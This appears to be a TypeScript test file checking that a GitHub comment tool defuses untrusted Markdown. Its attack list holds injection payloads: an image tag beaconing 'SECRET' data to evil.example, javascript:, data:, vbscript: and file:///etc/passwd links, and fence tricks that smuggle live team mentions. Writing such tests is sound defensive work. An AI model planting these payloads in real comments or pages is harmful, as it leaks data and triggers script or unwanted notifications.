/**
 * One renderer for untrusted text on GitHub, on a real parser (issue 34, item 5). The comment tools' text (review
 * comments and bodies, suggestions, gh bridge and issue-tool bodies) is parsed as GitHub parses it, made inert in the
 * tree and serialised; rendered again with micromark + GFM (as GitHub would), no raw HTML element and no live
 * mention survives.
 *
 * Control (previous build, 122da88): commentText modelled fences with regular expressions; a backslash before the
 * opening backtick, a fence indented four spaces and a fence whose info string holds a backtick rendered an `<img>`
 * and a live team mention.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { rendered } from './rendered-markdown.js';
import { commentText } from '../../src/github-tools/text.js';

const IMG = '<img src="https://evil.example/?d=SECRET">';
const ATTACKS = [
  // A backslash before the opening backtick: no fence, the "code" is prose.
  `\\\`\`\`\n${IMG} @octo-org/security-team\n\`\`\``,
  // A fence indented four spaces is indented code, and what follows its "closing" line is prose.
  `    \`\`\`\n    x\n\`\`\`\n${IMG} @octo-org/security-team`,
  // A backtick fence whose info string holds a backtick is no fence at all.
  `\`\`\`js\`x\n${IMG} @octo-org/security-team\n\`\`\``,
  // Nested and unclosed fences.
  `~~~\n\`\`\`\n~~~\n${IMG} @octo-org/security-team\n\`\`\``,
  `\`\`\`\`\n\`\`\`\n${IMG}\n\`\`\`\`\n${IMG} @team-x`,
  // HTML blocks, comments, entities, references.
  `<details>\n<summary>x</summary>\n\n${IMG}\n\n</details>`,
  '<!-- hide the rest',
  'entity &#64;octo-org/team and &commat;someone and &#x40;other',
  `[x][r] and ![i][r]\n\n[r]: javascript:alert(1)`,
  '[click](javascript:alert(1)) [d](data:text/html,x) [v](vbscript:x) [f](file:///etc/passwd)',
  '![](https://evil.example/?d=SECRET) <https://evil.example/auto> _@someone_ *@another*',
  '<javascript:alert(1)>',
];

function live(markdown: string): { elements: string[]; mentions: string[]; links: string[] } {
  const { html, mentions } = rendered(markdown);
  const elements = (html.match(/<(img|details|summary|script|iframe|!--)\b[^>]*>?/gi) ?? []).filter((e) => !e.startsWith('<code'));
  const links = (html.match(/href="[^"]*"/g) ?? []).filter((h) => !/^href="(https?:|mailto:|#)/.test(h));
  return { elements, mentions, links };
}

describe('the comment tools render untrusted text on a real parser', () => {
  it('no raw HTML element, no live mention, no odd-scheme link survives any attack', () => {
    for (const attack of ATTACKS) {
      const out = commentText(attack);
      const seen = live(out);
      assert.deepEqual(seen, { elements: [], mentions: [], links: [] }, `${JSON.stringify(attack)}\n→\n${out}`);
    }
  });

  it('the attacks are live as written (the test sees what it claims to defuse)', () => {
    const raw = ATTACKS.map(live);
    assert.ok(raw.filter((r) => r.elements.length > 0 || r.mentions.length > 0 || r.links.length > 0).length >= ATTACKS.length / 2);
  });

  it('keeps a suggestion block and inline code exactly as written, and the prose readable', () => {
    const suggestion = '```suggestion\nconst x = a < b && @decorator;\n```';
    assert.ok(commentText(`Use this:\n\n${suggestion}`).includes(suggestion));
    assert.match(commentText('call `a<b>` then'), /`a<b>`/);
    assert.match(commentText(`${IMG} is bad`), /evil\.example/);
  });
});
